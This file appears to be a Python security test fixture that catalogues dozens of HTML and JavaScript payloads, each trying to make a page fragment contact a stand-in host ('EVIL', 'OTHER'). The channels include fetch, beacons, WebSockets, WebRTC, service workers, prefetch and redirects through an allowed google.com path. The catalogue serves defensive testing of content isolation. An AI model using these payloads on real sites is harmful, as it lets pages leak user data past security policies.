"""Attempts to let a part of a page, rather than the window, speak to another site."""

from tests.web.hostile.attempt import ANYBODY, Attempt, each, redirect
from tests.web.internet import Answer

SCRIPT = "text/javascript"
OPEN_LINE = "<script src=https://www.google.com/recaptcha/x></script>"
"""After it a line is open to a host of which only a part is allowed."""
ELSEWHERE = redirect("https://www.google.com/leak/NAME")
SENT_ON = {
    "image-by-redirection": f"<script>onload = () => add('img', {{src: '{ELSEWHERE}'}})</script>",
    "fetch-by-redirection": "<script>onload = () => { for (let n = 0; n < 5; n++) setTimeout(() => "
    f"fetch('{ELSEWHERE}', {{mode: 'no-cors'}}).catch(() => 0), n * 20) }}</script>",
    "frame-by-redirection": f"<script>onload = () => add('iframe', {{src: '{ELSEWHERE}'}})</script>",
}
BY_ITSELF = each(
    "part",
    {
        "image": "<img src=EVIL>",
        "image-set": "<img srcset='EVIL 1x'>",
        "image-button": "<input type=image src=EVIL>",
        "image-by-redirection": f"<img src='{redirect('EVIL')}'>",
        "script": "<script src=EVIL></script>",
        "module": "<script type=module>import 'EVIL'</script>",
        "late-module": "<script>import('EVIL').catch(() => {})</script>",
        "style": "<link rel=stylesheet href=EVIL>",
        "style-import": "<style>@import 'EVIL';</style>",
        "background": "<body style='background: url(EVIL)'>",
        "font": "<style>@font-face {font-family: f; src: url(EVIL)} p {font-family: f}</style><p>text",
        "sound": "<audio src=EVIL autoplay preload=auto></audio>",
        "film": "<video src=EVIL autoplay muted></video>",
        "poster": "<video poster=EVIL></video>",
        "subtitles": "<video><track default src=EVIL></video><script>"
        "document.querySelector('video').textTracks[0].mode = 'showing'</script>",
        "frame": "<iframe src=EVIL></iframe>",
        "image-by-redirection-in-the-clear": f"<img src='{redirect('http://OTHER/NAME')}'>",
        "frame-by-redirection": f"<iframe src='{redirect('EVIL')}'></iframe>",
        "image-in-written-frame": '<iframe srcdoc="<img src=EVIL>"></iframe>',
        "image-in-data-frame": "<iframe src='data:text/html,<img src=EVIL>'></iframe>",
        "image-in-script-frame": "<iframe src=\"javascript:'<img src=EVIL>'\"></iframe>",
        "image-in-sandboxed-frame": '<iframe sandbox srcdoc="<img src=EVIL>"></iframe>',
        "object": "<object data=EVIL></object>",
        "embedded": "<embed src=EVIL>",
        "drawing": "<svg><image href=EVIL width=9 height=9 /></svg>",
        "drawing-reuse": "<svg><use href='EVIL#x' /></svg>",
        "fetch": "<script>fetch('EVIL').catch(() => {})</script>",
        "silent-fetch": "<script>fetch('EVIL', {mode: 'no-cors', method: 'POST', body: 'idnp'}).catch(() => {})</script>",
        "fetch-by-redirection": f"<script>fetch('{redirect('EVIL')}', {{mode: 'no-cors'}}).catch(() => {{}})</script>",
        "fetch-that-outlives-the-page": "<script>fetch('EVIL', {mode: 'no-cors', keepalive: true}).catch(() => {});"
        " location = '/ok'</script>",
        "fetch-at-leisure": "<script>fetchLater('EVIL', {activateAfter: 0})</script>",
        "request": "<script>const r = new XMLHttpRequest(); r.open('POST', 'EVIL'); r.send('x')</script>",
        "beacon": "<script>navigator.sendBeacon('EVIL', 'x')</script>",
        "event-stream": "<script>new EventSource('EVIL')</script>",
        "web-socket": "<script>new WebSocket('wss://OTHER/NAME')</script>",
        "web-socket-in-the-clear": "<script>new WebSocket('ws://OTHER/NAME')</script>",
        "web-transport": "<script>new WebTransport('https://OTHER:4433/NAME').ready.catch(() => {})</script>",
        "stun": "<script>const c = new RTCPeerConnection({iceServers: [{urls: 'stun:OTHER:PORT'}]});"
        "c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))</script>",
        "turn": "<script>const c = new RTCPeerConnection({iceTransportPolicy: 'relay', iceServers: [{urls:"
        "'turn:OTHER:PORT?transport=tcp', username: 'a', credential: 'b'}]});"
        "c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))</script>",
        "stun-in-a-frame": "<iframe srcdoc=''></iframe><script>const C = document.querySelector('iframe')"
        ".contentWindow.RTCPeerConnection; const c = new C({iceServers: [{urls: 'stun:OTHER:PORT'}]});"
        "c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))</script>",
        "preload": "<link rel=preload as=image href=EVIL>",
        "module-preload": "<link rel=modulepreload href=EVIL>",
        "prefetch": "<link rel=prefetch href=EVIL>",
        "preconnect": "<link rel=preconnect href=https://OTHER>",
        "speculation": '<script type=speculationrules>{"prefetch": [{"urls": ["EVIL"], "eagerness": "immediate"}]}</script>',
        "speculative-render": '<script type=speculationrules>{"prerender": [{"urls": ["EVIL"], "eagerness": "immediate"}]}'
        "</script>",
        "icon": "<link rel=icon href=EVIL>",
        "manifest": "<link rel=manifest href=EVIL>",
        "cursor": "<body style='cursor: url(EVIL), auto'>",
        "attribution": "<img attributionsrc=EVIL src=/ok>",
        "worker": "<script>new Worker(URL.createObjectURL(new Blob([\"importScripts('EVIL')\"])))</script>",
        "worker-fetch": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('EVIL')\"])))</script>",
        "payment-app": "<script>new PaymentRequest([{supportedMethods: 'EVIL'}],"
        " {total: {label: 'x', amount: {currency: 'MDL', value: '1'}}}).canMakePayment().catch(() => {})</script>",
        "federated-sign-in": "<script>navigator.credentials.get({identity: {providers:"
        " [{configURL: 'EVIL', clientId: 'x'}]}}).catch(() => {})</script>",
        "drawn-from-style": "<style>p::after {content: url(EVIL)}</style><p>text",
        "mask": "<svg><rect style='filter: url(EVIL#f); mask: url(EVIL#m)' width=9 height=9 /></svg>",
    },
)
OTHERS = [
    Attempt("part-link-header", "", headers=(("Link", "<EVIL>; rel=preload; as=script"),)),
    Attempt("part-connect-header", "", headers=(("Link", "<https://OTHER>; rel=preconnect"),)),
    Attempt(
        "part-report-of-the-policy",
        "<img src=//nowhere.example.com/a>",
        headers=(("Content-Security-Policy", "img-src 'none'; report-uri EVIL"),),
    ),
    Attempt("part-ping", "<a class=it href=#x ping=EVIL>go</a>", ("click",)),
    Attempt(
        "part-shared-worker",
        "<script>new SharedWorker('/shared.js')</script>",
        files={"/shared.js": Answer("fetch('EVIL')", media=SCRIPT)},
    ),
    Attempt(
        "part-service-worker",
        "<script>navigator.serviceWorker.register('/service.js')</script>",
        files={"/service.js": Answer("fetch('EVIL')", media=SCRIPT)},
        wait_ms=600,
    ),
    Attempt(
        "part-service-worker-script",
        "<script>navigator.serviceWorker.register('/service.js')</script>",
        files={"/service.js": Answer("importScripts('EVIL')", media=SCRIPT)},
        wait_ms=600,
    ),
    *each("part", {f"{name}-over-an-open-line": OPEN_LINE + page for name, page in SENT_ON.items()}),
    Attempt(
        "part-many-fetches-over-open-lines",
        "<script>const go = (a) => fetch(a, {mode: 'no-cors'}).catch(() => 0); (async () => { for (let n = 0; n < 60;"
        f" n++) {{ await go('https://www.google.com/recaptcha/x'); await go('{ELSEWHERE}') }} }})()</script>",
        wait_ms=1_000,
    ),
    Attempt(
        "part-answer-over-an-open-line",
        f"{OPEN_LINE}<script>onload = () => gives(fetch('{redirect('https://www.google.com/other')}')"
        ".then((r) => r.text()))</script>",
        files={"/other": Answer("of another path", headers=ANYBODY)},
    ),
    Attempt(
        "part-script-over-an-open-line",
        f"{OPEN_LINE}<script>onload = () => add('script', {{src: '{redirect('https://www.google.com/other')}'}})"
        "</script>",
        files={"/other": Answer("leak('run')", media=SCRIPT)},
    ),
    Attempt(
        "part-style-by-redirection",
        f"<link rel=stylesheet href='{redirect('EVIL')}'>",
    ),
    Attempt(
        "part-transformation",
        "<iframe src=/x.xml></iframe>",
        files={"/x.xml": Answer("<?xml-stylesheet type='text/xsl' href='EVIL'?><x/>", media="text/xml")},
    ),
    Attempt(
        "part-drawing-file",
        "<iframe src=/x.svg></iframe>",
        files={
            "/x.svg": Answer(
                "<svg xmlns='http://www.w3.org/2000/svg'><script href='EVIL'/><image href='EVIL'/></svg>",
                media="image/svg+xml",
            )
        },
    ),
]
ATTEMPTS = [*BY_ITSELF, *OTHERS]
